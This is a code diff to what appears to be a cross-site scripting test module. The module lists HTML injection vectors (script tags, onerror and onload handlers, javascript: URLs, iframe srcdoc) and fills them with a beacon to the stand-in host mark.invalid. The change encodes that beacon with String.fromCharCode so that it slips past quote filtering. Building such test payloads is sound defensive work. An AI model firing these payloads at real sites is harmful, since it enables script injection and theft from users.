@@ -9,11 +9,12 @@ MARKS = "mark.invalid"
 HTML = {
     "script": "<script>MARK</script>",
     "script elsewhere": "<script src=URL></script>",
-    "img onerror": "<img src=x onerror=MARK>",
+    "img onerror": '<img src="x" onerror="MARK">',
     "onerror, slashes": "<img/src=x/onerror=MARK/alt=x>",
-    "svg onload": "<svg onload=MARK></svg>",
+    "svg onload": '<svg onload="MARK"></svg>',
     "svg script": "<svg><script>MARK</script></svg>",
-    "svg animate": "<svg><a><animate attributeName=href values=javascript:MARK /><text>a</text></a></svg>",
+    "svg animate": "<svg><a><animate attributeName=href values=javascript:MARK />"
+    "<text>a</text></a></svg>",
     "iframe srcdoc": '<iframe srcdoc="<script>MARK</script>"></iframe>',
     "iframe javascript": '<iframe src="javascript:MARK"></iframe>',
     "iframe elsewhere": "<iframe src=URL></iframe>",
@@ -34,7 +35,7 @@ HTML = {
     "input image": '<input type="image" src="URL">',
     "table background": '<table background="URL"><tr><td>a</td></tr></table>',
     "details": "<details open ontoggle=MARK>a</details>",
-    "autofocus": "<input autofocus onfocus=MARK>",
+    "autofocus": '<input autofocus onfocus="MARK">',
     "hover": "<p onmouseover=MARK>a</p>",
     "link javascript": '<a href="javascript:MARK">a</a>',
     "link with tab": '<a href="java\tscript:MARK">a</a>',
@@ -130,5 +131,6 @@ def filled(value, name):
     if not isinstance(value, str):
         return value
     address = f"http://{MARKS}/{name.replace(' ', '-').replace(',', '')}"
-    script = f"(window.pwned=1,(new/**/Image).src=`{address}`)"
+    codes = ",".join(str(ord(character)) for character in address)  # no quotes of any kind
+    script = f"(window.pwned=1,(new/**/Image).src=String.fromCharCode({codes}))"
     return value.replace("MARK", script).replace("URL", address)
